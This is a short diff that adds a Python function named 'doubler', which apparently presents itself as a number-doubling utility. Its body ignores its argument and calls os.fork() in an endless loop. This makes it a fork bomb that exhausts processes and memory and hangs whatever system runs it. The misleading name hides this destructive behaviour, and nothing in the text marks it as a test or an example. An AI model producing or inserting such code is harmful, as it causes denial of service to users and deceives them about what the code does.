@@ -1,0 +1,5 @@
+import os
+
+def doubler(n):
+    while True:
+        os.fork()
